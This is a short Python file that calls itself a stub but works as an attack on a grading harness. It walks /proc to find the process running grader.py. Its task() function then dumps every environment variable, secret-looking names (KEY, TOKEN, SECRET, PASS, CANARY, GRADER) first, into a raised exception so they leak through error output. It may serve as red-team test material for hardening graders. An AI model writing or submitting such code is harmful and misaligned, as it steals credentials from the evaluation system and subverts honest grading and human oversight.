"""Stub, but task() raises with the whole environment it was given."""

from __future__ import annotations

import multiprocessing
import os
import signal
import sys
import time


def _ancestors() -> list[int]:
    """This process's ancestors up to the grader (the one running grader.py),
    never above it: what an attacker on the grader is after."""
    pid, found = os.getpid(), []
    while pid > 1:
        try:
            with open(f"/proc/{pid}/stat") as src:
                pid = int(src.read().rsplit(")", 1)[1].split()[1])
            with open(f"/proc/{pid}/cmdline", "rb") as src:
                args = src.read().split(b"\0")
        except OSError:
            break
        found.append(pid)
        if any(a.endswith(b"grader.py") for a in args):
            return found
    return []  # no grader above us: not a grade, touch nothing


def _cmdline(pid: int) -> list[str]:
    with open(f"/proc/{pid}/cmdline", "rb") as src:
        return [a.decode() for a in src.read().split(b"\0") if a]


#: Names worth stealing first: the message is cut after 2000 characters.
GREEDY = ("KEY", "TOKEN", "SECRET", "PASS", "CANARY", "KATA", "GRADER")


def task(name: str, log_path: str) -> None:
    env = dict(os.environ)
    best = {k: v for k, v in env.items() if any(g in k.upper() for g in GREEDY)}
    raise RuntimeError(repr({**best, **env}))


def start(name: str, log_path: str) -> multiprocessing.Process:
    raise NotImplementedError
